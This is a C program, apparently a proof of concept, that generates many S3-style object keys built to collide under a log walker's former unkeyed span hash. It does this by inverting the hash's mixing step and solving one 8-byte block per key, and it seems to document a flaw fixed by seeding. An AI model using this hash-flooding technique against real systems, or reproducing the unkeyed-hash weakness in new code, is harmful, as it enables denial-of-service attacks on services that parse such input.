/* Keys whose requestParameters span {"bucketName":"b","key":"<key>"} collide under the walker's
   former unkeyed span hash (scan.c before the seed): the 8 bytes of block 5 are solved so that the
   state after it is one constant for every key. Usage: collide N > keys.txt */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static const uint64_t M1 = 0xFF51AFD7ED558CCDull;
static uint64_t inv(uint64_t a) { uint64_t x = a; for (int i = 0; i < 6; i++) x *= 2 - a * x; return x; }
static uint64_t unshift(uint64_t y) { return y ^ (y >> 29) ^ (y >> 58); }
int main(int argc, char **argv) {
  long n = argc > 1 ? atol(argv[1]) : 1000;
  const char *head = "{\"bucketName\":\"b\",\"key\":\"";          /* 25 bytes */
  char span[64];
  size_t len = 58; /* head 25 + key 31 + "} 2 */
  uint64_t m1inv = inv(M1), target = 0x0123456789abcdefull;
  uint64_t x = unshift(target) * m1inv; /* (h ^ w) needed before the multiply */
  srand(19);
  long made = 0;
  while (made < n) {
    memcpy(span, head, 25);
    snprintf(span + 25, 16, "k%08ld", made);            /* key offset 0..8 */
    for (int i = 25 + 9; i < 40; i++) span[i] = 'a' + rand() % 26; /* key offset 9..14, random */
    uint64_t h = 0x9E3779B97F4A7C15ull ^ len;
    for (int b = 0; b < 40; b += 8) { uint64_t w; memcpy(&w, span + b, 8); h = (h ^ w) * M1; h ^= h >> 29; }
    uint64_t w = x ^ h; /* block 40..47 */
    unsigned char *c = (unsigned char *)&w;
    int ok = 1;
    for (int k = 0; k < 8; k++) ok &= c[k] >= 0x21 && c[k] <= 0x7e && c[k] != '"' && c[k] != '\\';
    if (!ok) continue;
    memcpy(span + 40, &w, 8);
    memcpy(span + 48, "/tail.gz", 8); /* key offset 23..30 */
    fwrite(span + 25, 1, 31, stdout);
    fputc('\n', stdout);
    made++;
  }
  return 0;
}
